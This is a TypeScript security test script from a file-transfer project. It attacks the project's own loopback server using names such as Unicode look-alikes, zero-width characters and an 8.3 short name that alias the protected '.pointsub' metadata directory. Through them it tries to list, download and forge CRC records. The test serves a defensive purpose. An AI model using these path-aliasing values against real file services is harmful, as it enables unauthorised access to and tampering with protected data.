/**
 * Attack on the file sink's CRC records' directory (`.pointsub/`, files
 * lane, session 19): tries upload, quick check, list and download under
 * names that alias `.pointsub` on case-insensitive Unicode-folding volumes
 * (APFS/HFS+, NTFS, ext4 casefold), HFS+ (ignored code points) and NTFS
 * (8.3 short names), over TCP on loopback, and prints what each got. On
 * such a volume every "stored"/"served"/"listed" line reaches the real
 * metadata directory: a peer lists it, downloads a record (a file's device,
 * inode, size, times) and uploads one back with a CRC of its choice.
 *
 *   node scripts/attack/meta-dir-aliases.ts
 */
import { writeFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { decodeFileListAnswer, encodeFileGetRequest, encodeFileListRequest } from "../../src/codec/file-routes.ts";
import {
  connect,
  createServer,
  FILE_GET_ROUTE,
  FILE_LIST_ROUTE,
  FILE_ROUTE,
  fileSink,
  fileSource,
  sendFile,
} from "../../src/index.ts";
import { FILE_CHECK_ROUTE } from "../../src/node/file-sink.ts";

const ALIASES = [".point\u017Fub", ".POINT\u017FUB", ".point\u200Csub", ".pointsub\uFEFF", "POINTS~1", ".pointsub"];
const work = await mkdtemp(join(tmpdir(), "pointsub-atk-meta-"));
const dir = join(work, "serve");
const sink = fileSink(dir);
const source = fileSource(dir);
const server = createServer();
server.handleStream(FILE_ROUTE, sink.handler, { resume: sink.resume });
server.handle(FILE_CHECK_ROUTE, sink.check);
server.handle(FILE_GET_ROUTE, source.get);
server.handle(FILE_LIST_ROUTE, source.list);
const [url] = await server.listen("tcp://127.0.0.1:0");
const conn = await connect(url);
await sink.ready;
const src = join(work, "record.json");
writeFileSync(
  src,
  JSON.stringify({ v: 1, path: "victim.bin", dev: 1, ino: 2, size: 3, mtimeMs: 4, ctimeMs: 5, crc: 6, synced: true }),
);
const code = (err: { code?: string }) => err.code ?? String(err);
for (const alias of ALIASES) {
  const path = `${alias}/crc-1-2.json`;
  const up = await Promise.resolve(sendFile(conn, src, { relativePath: path, retries: 0 })).then(() => "stored", code);
  const check = await conn
    .request(FILE_CHECK_ROUTE, JSON.stringify({ files: [{ path, size: 1 }] }))
    .then(() => "answered", code);
  const list = await conn
    .request(FILE_LIST_ROUTE, encodeFileListRequest({ path: alias }))
    .then((a) => `listed ${decodeFileListAnswer(a).entries.length}`, code);
  // The asker has no file route: a download found and started ends in ERR_NO_ROUTE.
  const get = await conn.request(FILE_GET_ROUTE, encodeFileGetRequest({ path, to: "x" })).then(
    () => "served",
    (e) => (code(e) === "ERR_NO_ROUTE" ? "served" : code(e)),
  );
  console.log(`${JSON.stringify(alias).padEnd(16)} upload ${up}, check ${check}, list ${list}, get ${get}`);
}
await conn.destroy();
await sink.close();
await server.close({ timeoutMs: 100 });
await rm(work, { recursive: true, force: true });
